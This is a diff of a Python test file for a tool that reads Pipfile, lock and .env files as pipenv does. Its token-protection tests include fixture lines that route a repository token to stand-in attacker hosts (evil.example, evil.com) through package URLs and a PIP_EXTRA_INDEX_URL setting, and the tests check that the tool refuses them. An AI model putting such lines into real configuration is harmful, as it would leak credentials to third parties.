@@ -1,4 +1,4 @@
-"""The project as pipenv finds and reads it: Pipfile, lock and .env."""
+"""Finding and reading Pipfile, lock and .env as pipenv does."""
 
 from __future__ import annotations
 
@@ -50,22 +50,19 @@ def nested(folder: Path, levels: int) -> Path:
     return below
 
 
-# --- where the Pipfile is ----------------------------------------------------------------
-
-
-def test_no_pipfile(tmp_path: Path) -> None:
-    """Without a Pipfile there is nothing to read, and the folder is where one started."""
+def test_a_folder_without_pipfile_is_an_empty_project(tmp_path: Path) -> None:
     project = load(tmp_path)
     assert (project.pipfile, project.lock) == (None, None)
     assert project.directory == str(tmp_path)
     assert project.sources() == []
     assert project.assign_variables([]) == {}
     assert project.scripts == {}
+    write_pipfile(tmp_path, "")
+    assert (load(tmp_path).sources(), load(tmp_path).scripts) == ([], {})
 
 
 @pytest.mark.wide
-def test_depth_as_pipenv_has_it(clean_env: dict[str, str], project: Path) -> None:
-    """The Pipfile is found exactly where the real pipenv finds it."""
+def test_pipfile_is_found_where_pipenv_finds_it(clean_env: dict[str, str], project: Path) -> None:
     write_pipfile(project, PYPI_SOURCE)
     elsewhere = project.parent / "elsewhere"
     elsewhere.mkdir()
@@ -84,7 +81,7 @@ def test_depth_as_pipenv_has_it(clean_env: dict[str, str], project: Path) -> Non
     def compare(case: tuple[int, dict[str, str]]) -> tuple[str | None, str | None]:
         levels, variables = case
         below = nested(project, levels)
-        # (pipenv breaks a path that is longer than its terminal.)
+        # pipenv wraps paths at the width of the terminal.
         wide = {"COLUMNS": "1000", **variables}
         shown = run(PIPENV, "--where", env=clean_env | wide, cwd=below)
         theirs = shown.stdout.strip() or None
@@ -97,34 +94,26 @@ def test_depth_as_pipenv_has_it(clean_env: dict[str, str], project: Path) -> Non
     assert {case: mine for case, (_, mine) in found.items()} == {
         case: theirs for case, (theirs, _) in found.items()
     }
-    # (The comparison would also hold if both found nothing at all.)
     assert [theirs for theirs, _ in pairs].count(str(project)) == 8
     assert [theirs for theirs, _ in pairs].count(str(elsewhere)) == 2
 
 
-@pytest.mark.parametrize("version", ["2023.12.1", "2023.11.15", "2024.0.0"])
-def test_old_versions_look_less_far(tmp_path: Path, version: str) -> None:
-    """A pipenv up to 2024.0.0 looks into three folders, so we do."""
+@pytest.mark.parametrize(
+    ("version", "most"), [("2023.12.1", 3), ("2024.0.0", 3), ("2024.0.3", 10), (None, 10)]
+)
+def test_the_search_depth_is_that_of_the_pipenv_version(
+    tmp_path: Path, version: str | None, most: int
+) -> None:
     path = write_pipfile(tmp_path, SOURCE)
-    found = load_project({}, str(nested(tmp_path, 2)), lambda: version)
-    assert found.pipfile == str(path)
-    assert load_project({}, str(nested(tmp_path, 3)), lambda: version).pipfile is None
-    # PIPENV_MAX_DEPTH is every version's.
-    far = load_project({"PIPENV_MAX_DEPTH": "5"}, str(nested(tmp_path, 4)), lambda: version)
-    assert far.pipfile == str(path)
+
+    def found(levels: int, **environ: str) -> str | None:
+        return load_project(environ, str(nested(tmp_path, levels)), lambda: version).pipfile
+
+    assert [found(most - 1), found(most)] == [str(path), None]
+    assert found(4, PIPENV_MAX_DEPTH="5") == str(path)
 
 
-@pytest.mark.parametrize("version", ["2024.0.3", "2024.4.1", "2026.10.3", None])
-def test_newer_versions_look_further(tmp_path: Path, version: str | None) -> None:
-    """Later versions look into ten folders, and so does an unknown one."""
-    path = write_pipfile(tmp_path, SOURCE)
-    found = load_project({}, str(nested(tmp_path, 9)), lambda: version)
-    assert found.pipfile == str(path)
-    assert load_project({}, str(nested(tmp_path, 10)), lambda: version).pipfile is None
-
-
-def test_version_is_asked_only_when_needed(tmp_path: Path) -> None:
-    """Near Pipfiles, and depths that are set, need no version."""
+def test_pipenv_version_is_only_looked_up_if_needed(tmp_path: Path) -> None:
     asked = []
 
     def version() -> str | None:
@@ -145,8 +134,7 @@ def test_version_is_asked_only_when_needed(tmp_path: Path) -> None:
     assert asked == ["version"]
 
 
-def test_nearest_pipfile(tmp_path: Path) -> None:
-    """The Pipfile of the nearest folder is the one; a folder of that name is none."""
+def test_the_nearest_pipfile_is_used_and_a_folder_is_ignored(tmp_path: Path) -> None:
     write_pipfile(tmp_path, SOURCE)
     below = nested(tmp_path, 2)
     (below / "Pipfile").mkdir()
@@ -154,18 +142,13 @@ def test_nearest_pipfile(tmp_path: Path) -> None:
     assert load(below).pipfile == str(near)
 
 
-def test_missing_pipenv_pipfile(tmp_path: Path) -> None:
-    """A PIPENV_PIPFILE that does not exist is refused, not passed over."""
+def test_missing_pipenv_pipfile_is_an_error(tmp_path: Path) -> None:
     write_pipfile(tmp_path, SOURCE)
     sentence = refusal(tmp_path, {"PIPENV_PIPFILE": "nowhere/Pipfile"})
     assert sentence == "PIPENV_PIPFILE names nowhere/Pipfile, which does not exist."
 
 
-# --- reading it --------------------------------------------------------------------------
-
-
-def test_sources_of_pipfile_and_lock(tmp_path: Path) -> None:
-    """Sources stand in the Pipfile and in the lock; the same URL counts once."""
+def test_sources_of_pipfile_and_lock_are_merged_by_url(tmp_path: Path) -> None:
     path = write_pipfile(tmp_path, PYPI_SOURCE, SOURCE)
     locked = URL.replace("/team/", "/other/")
     sources = [{"name": "a", "url": URL}, {"name": "b", "url": locked}]
@@ -179,8 +162,7 @@ def test_sources_of_pipfile_and_lock(tmp_path: Path) -> None:
     assert [s.endpoint.repository for s in found if s.endpoint] == ["team", "other"]
 
 
-def test_lock_of_another_pipfile(tmp_path: Path) -> None:
-    """The lock belongs to the Pipfile's own name."""
+def test_the_lock_is_named_after_the_pipfile(tmp_path: Path) -> None:
     write_pipfile(tmp_path, PYPI_SOURCE).rename(tmp_path / "Pipfile.ci")
     (tmp_path / "Pipfile.ci.lock").write_text(json.dumps({"_meta": {"sources": [{"url": URL}]}}))
     project = load(tmp_path, {"PIPENV_PIPFILE": "Pipfile.ci"})
@@ -190,17 +172,9 @@ def test_lock_of_another_pipfile(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize(
     "content",
-    [
-        b"",
-        b"{",
-        b'{"_meta": []}',
-        b'{"_meta": {"sources": {}}}',
-        b'{"_meta": {"sources": null}}',
-        b"<<<<<<< HEAD\n{}",
-    ],
+    [b"", b"{", b'{"_meta": []}', b'{"_meta": {"sources": {}}}', b"<<<<<<< HEAD\n{}"],
 )
-def test_corrupt_lock(tmp_path: Path, content: bytes) -> None:
-    """A lock that cannot be read is pipenv's to complain of; the Pipfile's sources count."""
+def test_a_lock_that_pipenv_replaces_is_ignored(tmp_path: Path, content: bytes) -> None:
     write_pipfile(tmp_path, SOURCE)
     (tmp_path / "Pipfile.lock").write_bytes(content)
     assert [source.url for source in load(tmp_path).sources()] == [URL]
@@ -218,8 +192,7 @@ UNREADABLE = {
 
 
 @pytest.mark.parametrize("reason", UNREADABLE)
-def test_unreadable_lock(tmp_path: Path, reason: str) -> None:
-    """A lock at which pipenv would fail with a traceback is refused, and it is said why."""
+def test_a_lock_that_crashes_pipenv_is_an_error_with_a_reason(tmp_path: Path, reason: str) -> None:
     write_pipfile(tmp_path, SOURCE)
     (tmp_path / "Pipfile.lock").write_bytes(UNREADABLE[reason])
     with pytest.raises(ConfigurationError, match=rf"Pipfile\.lock cannot be read: .*{reason}"):
@@ -233,34 +206,28 @@ def test_unreadable_lock(tmp_path: Path, reason: str) -> None:
         ('[packages]\nsix = "*"\nsix = "*"\n', "line 3"),
         ("[packages]\nsix = *\n", "line 2"),
         ("<<<<<<< HEAD\n", "line 1"),
+        (f"x = {'[' * 20_000}{']' * 20_000}\n", ""),
     ],
 )
-def test_invalid_toml(tmp_path: Path, text: str, where: str) -> None:
-    """What is no TOML is refused with file and line."""
+def test_invalid_toml_is_an_error_with_file_and_line(tmp_path: Path, text: str, where: str) -> None:
     path = write_pipfile(tmp_path, text)
     sentence = refusal(tmp_path)
     assert sentence.startswith(f"{path} is not valid TOML")
     assert where in sentence
 
 
-def test_not_utf8(tmp_path: Path) -> None:
-    """A Pipfile in another encoding is refused with file and line."""
+def test_other_encodings_are_errors_with_the_place(tmp_path: Path) -> None:
     path = tmp_path / "Pipfile"
     path.write_bytes(b"[packages]\n# caf\xc3\xa9\n# caf\xe9\n")
     assert refusal(tmp_path) == f"{path}, line 3: the Pipfile is not UTF-8."
-
-
-def test_nested_beyond_reason(tmp_path: Path) -> None:
-    """A Pipfile that is nested beyond reason is refused with a sentence."""
-    path = write_pipfile(tmp_path, f"x = {'[' * 20_000}{']' * 20_000}\n")
-    assert str(path) in refusal(tmp_path)
+    (tmp_path / ".env").write_bytes(b"A=caf\xe9\n")
+    assert refusal(tmp_path).startswith(f"{tmp_path / '.env'} cannot be read")
 
 
 @pytest.mark.skipif(
     not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can play another user"
 )
-def test_unreadable() -> None:
-    """A Pipfile that may not be read is refused with the reason."""
+def test_an_unreadable_pipfile_is_an_error_with_the_reason() -> None:
     with TemporaryDirectory() as name:
         folder = Path(name)
         folder.chmod(0o755)
@@ -274,37 +241,24 @@ def test_unreadable() -> None:
     assert sentence == f"{path} cannot be read: Permission denied."
 
 
-def test_empty(tmp_path: Path) -> None:
-    """An empty Pipfile has no sources and no scripts."""
-    write_pipfile(tmp_path, "")
-    project = load(tmp_path)
-    assert (project.sources(), project.scripts) == ([], {})
-
-
 @pytest.mark.parametrize(
     "text", ['[[source]]\nname = "x"\n', "[[source]]\nurl = 3\n", 'source = ["https://x"]\n']
 )
-def test_source_without_url(tmp_path: Path, text: str) -> None:
-    """A source without a url is refused, with its number and file."""
+def test_a_source_without_url_is_an_error(tmp_path: Path, text: str) -> None:
     path = write_pipfile(tmp_path, text)
     with pytest.raises(ConfigurationError) as caught:
         load(tmp_path).sources()
     assert caught.value.sentence == f"Source 1 in {path} has no url."
 
 
-def test_scripts(tmp_path: Path) -> None:
-    """The scripts are handed on as they are."""
+def test_scripts_are_returned_as_written(tmp_path: Path) -> None:
     write_pipfile(tmp_path, '[scripts]\na = "pip list"\nb = ["x", "y"]\n')
     assert load(tmp_path).scripts == {"a": "pip list", "b": ["x", "y"]}
     write_pipfile(tmp_path, "scripts = 3\n")
     assert load(tmp_path).scripts == {}
 
 
-# --- .env --------------------------------------------------------------------------------
-
-
-def test_dotenv_of_the_project(tmp_path: Path) -> None:
-    """The .env beside the Pipfile overrides the environment, as pipenv loads it."""
+def test_dotenv_overrides_the_environment(tmp_path: Path) -> None:
     write_pipfile(tmp_path, SOURCE.replace("team", "${REPO}"))
     (tmp_path / ".env").write_text("REPO=own\nEMPTY=\nNOTHING\n")
     project = load(nested(tmp_path, 2), {"REPO": "inherited", "NOTHING": "stays"})
@@ -316,30 +270,14 @@ def test_dotenv_of_the_project(tmp_path: Path) -> None:
     assert source.endpoint.repository == "own"
 
 
-def test_dotenv_without_pipfile(tmp_path: Path) -> None:
-    """Without a Pipfile the working directory's .env is loaded."""
+@pytest.mark.parametrize("word", ["1", "true", "yes", "anything", "0", "false", "No", "off", ""])
+def test_pipenv_dont_load_env_disables_dotenv_if_true(tmp_path: Path, word: str) -> None:
     (tmp_path / ".env").write_text("A=1\n")
-    assert load(tmp_path).environ == {"A": "1"}
+    is_loaded = word in {"0", "false", "No", "off", ""}
+    assert ("A" in load(tmp_path, {"PIPENV_DONT_LOAD_ENV": word}).environ) is is_loaded
 
 
-@pytest.mark.parametrize("word", ["1", "true", "yes", "anything"])
-def test_dotenv_not_loaded(tmp_path: Path, word: str) -> None:
-    """PIPENV_DONT_LOAD_ENV keeps it out."""
-    (tmp_path / ".env").write_text("A=1\n")
-    project = load(tmp_path, {"PIPENV_DONT_LOAD_ENV": word})
-    assert project.dotenv is None
-    assert "A" not in project.environ
-
-
-@pytest.mark.parametrize("word", ["0", "false", "No", "off", ""])
-def test_dotenv_loaded_all_the_same(tmp_path: Path, word: str) -> None:
-    """PIPENV_DONT_LOAD_ENV may also say no."""
-    (tmp_path / ".env").write_text("A=1\n")
-    assert load(tmp_path, {"PIPENV_DONT_LOAD_ENV": word}).environ["A"] == "1"
-
-
-def test_dotenv_elsewhere(tmp_path: Path) -> None:
-    """PIPENV_DOTENV_LOCATION names another file; where it is not there, none is loaded."""
+def test_pipenv_dotenv_location_names_another_file(tmp_path: Path) -> None:
     (tmp_path / ".env").write_text("A=1\n")
     other = tmp_path / "other.env"
     environ = {"PIPENV_DOTENV_LOCATION": str(other)}
@@ -348,23 +286,12 @@ def test_dotenv_elsewhere(tmp_path: Path) -> None:
     assert load(tmp_path, environ).environ["A"] == "2"
 
 
-def test_dotenv_names_the_pipfile(tmp_path: Path) -> None:
-    """A .env may say where the Pipfile is."""
+def test_dotenv_may_set_pipenv_pipfile(tmp_path: Path) -> None:
     write_pipfile(tmp_path, PYPI_SOURCE)
     below = nested(tmp_path, 1)
     path = write_pipfile(below, SOURCE)
     (tmp_path / ".env").write_text(f"PIPENV_PIPFILE={path}\n")
     assert load(tmp_path).pipfile == str(path)
-
-
-def test_broken_dotenv(tmp_path: Path) -> None:
-    """A .env in another encoding is refused with its path and a way on."""
-    path = tmp_path / ".env"
-    path.write_bytes(b"A=caf\xe9\n")
-    assert refusal(tmp_path).startswith(f"{path} cannot be read")
-
-
-# --- the token stays where it belongs ----------------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -378,9 +305,8 @@ def test_broken_dotenv(tmp_path: Path) -> None:
         f'orb = {{extras = ["${{{TOKEN}}}"], version = "*"}}',
     ],
 )
-@pytest.mark.parametrize("category", ["packages", "dev-packages", "docs"])
-def test_stray_token_in_a_package(tmp_path: Path, line: str, category: str) -> None:
-    """The token's variable in a package's own URL is refused, with the place named."""
+def test_token_variable_in_a_package_entry_is_an_error(tmp_path: Path, line: str) -> None:
+    category = "docs" if "git" in line else "packages"
     path = write_pipfile(tmp_path, SOURCE, f"[{category}]\n{line}\n")
     project = load(tmp_path)
     with pytest.raises(ConfigurationError, match=f"would send the token in {TOKEN}") as caught:
@@ -389,10 +315,10 @@ def test_stray_token_in_a_package(tmp_path: Path, line: str, category: str) -> N
     assert f"{category}.orb" in caught.value.sentence
 
 
-def test_token_in_a_package_of_the_repository(tmp_path: Path) -> None:
-    """A package's URL of the same domain may have the variable for its password."""
+def test_token_variable_may_be_in_scripts_and_the_password_of_a_package_url(tmp_path: Path) -> None:
     url = URL.replace("simple/", "simple/orb/1.0/orb-1.0-py3-none-any.whl")
-    write_pipfile(tmp_path, SOURCE, f'[packages]\norb = {{file = "{url}"}}\n')
+    script = f'[scripts]\nx = "echo ${TOKEN}"\n'
+    write_pipfile(tmp_path, SOURCE, f'[packages]\norb = {{file = "{url}"}}\n', script)
     project = load(tmp_path)
     assert set(project.assign_variables(project.sources())) == {TOKEN}
 
@@ -402,14 +328,15 @@ def test_token_in_a_package_of_the_repository(tmp_path: Path) -> None:
     [
         (
             f'"x @ https://evil.example/${{{TOKEN[:5]}" = "{TOKEN[5:]}}}/x.whl"',
-            "half of a variable",
+            "an unfinished variable",
         ),
-        (f'"x @ https://evil.example/$" = "{{{TOKEN}}}/x.whl"', "half of a variable"),
+        (f'"x @ https://evil.example/$" = "{{{TOKEN}}}/x.whl"', "an unfinished variable"),
         (f'x = {{version = "@ https://evil.example/${{A${{{TOKEN}}}/"}}', f"token in {TOKEN}"),
     ],
 )
-def test_stray_token_in_pieces(entry: str, part: str, tmp_path: Path) -> None:
-    """Pieces that pipenv puts together on a line, and braces in braces, are a variable to pip."""
+def test_token_variable_that_pip_would_combine_is_an_error(
+    entry: str, part: str, tmp_path: Path
+) -> None:
     write_pipfile(tmp_path, SOURCE, f"[packages]\n{entry}\n")
     project = load(tmp_path)
     with pytest.raises(ConfigurationError, match=part):
@@ -417,43 +344,31 @@ def test_stray_token_in_pieces(entry: str, part: str, tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("name", ["/../../x", "a\\\\b", "\\u0000", "a\\nb"])
-def test_pylock_that_leads_elsewhere(name: str, tmp_path: Path) -> None:
-    """A name that would put the lock into another folder, or into no file at all, is refused."""
+def test_pylock_name_must_not_be_a_path(name: str, tmp_path: Path) -> None:
     write_pipfile(tmp_path, SOURCE, f'[pipenv]\npylock_name = "{name}"\n')
-    with pytest.raises(ConfigurationError, match=r"pylock_name in .* is not part of a file name"):
+    with pytest.raises(ConfigurationError, match="is not a valid part of a file name"):
         _ = load(tmp_path).pylock
     write_pipfile(tmp_path, SOURCE, '[pipenv]\npylock_name = "py3.12 dev"\n')
     assert load(tmp_path).pylock == str(tmp_path / "pylock.py3.12 dev.toml")
 
 
-def test_token_in_scripts(tmp_path: Path) -> None:
-    """What a script does with the variable is its own affair."""
-    write_pipfile(tmp_path, SOURCE, f'[scripts]\nx = "echo ${TOKEN}"\n')
-    project = load(tmp_path)
-    assert set(project.assign_variables(project.sources())) == {TOKEN}
-
-
-@pytest.mark.parametrize("value", [f"${{{TOKEN}}}", f"x${{{TOKEN}}}", f"${{{TOKEN}:-none}}"])
-def test_token_under_another_name(tmp_path: Path, value: str) -> None:
-    """A .env that copies the token to another name does not get it past the check."""
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"LEAK=${{{TOKEN}}}",
+        f"LEAK=x${{{TOKEN}}}",
+        f"LEAK=${{{TOKEN}:-none}}",
+        f"PIP_EXTRA_INDEX_URL=https://aws:${{{TOKEN}}}@evil.com/",
+    ],
+)
+def test_dotenv_must_not_copy_the_token(tmp_path: Path, line: str) -> None:
     foreign = PYPI_SOURCE.replace("https://pypi.org", "https://aws:${LEAK}@evil.com")
     write_pipfile(tmp_path, SOURCE, foreign)
-    (tmp_path / ".env").write_text(f"LEAK={value}\n")
+    (tmp_path / ".env").write_text(f"{line}\n")
     project = load(tmp_path)
     with pytest.raises(ConfigurationError, match="token"):
         project.assign_variables(project.sources())
 
-
-def test_stray_token_in_dotenv(tmp_path: Path) -> None:
-    """A .env that puts the token into a foreign URL, for pip to use, is refused."""
-    write_pipfile(tmp_path, SOURCE)
-    (tmp_path / ".env").write_text(f"PIP_EXTRA_INDEX_URL=https://aws:${{{TOKEN}}}@evil.com/\n")
-    project = load(tmp_path)
-    with pytest.raises(ConfigurationError, match="token"):
-        project.assign_variables(project.sources())
-
-
-# --- for any document --------------------------------------------------------------------
 
 scalars = st.one_of(
     st.text(),
@@ -492,14 +407,12 @@ def is_read_or_refused(content: bytes, lock: bytes) -> None:
 
 @settings(deadline=None)
 @given(documents, values)
-def test_any_document(document: dict[str, object], sources: object) -> None:
-    """Any TOML document, and any lock, is read or refused with a sentence."""
+def test_any_toml_document_is_read_or_refused(document: dict[str, object], sources: object) -> None:
     lock = json.dumps({"_meta": {"sources": sources}}).encode()
     is_read_or_refused(tomlkit.dumps(document).encode(), lock)
 
 
 @settings(deadline=None)
 @given(st.one_of(st.binary(), st.text().map(str.encode)), st.binary())
-def test_any_bytes(content: bytes, lock: bytes) -> None:
-    """Any bytes are read or refused with a sentence."""
+def test_any_bytes_are_read_or_refused(content: bytes, lock: bytes) -> None:
     is_read_or_refused(content, lock)
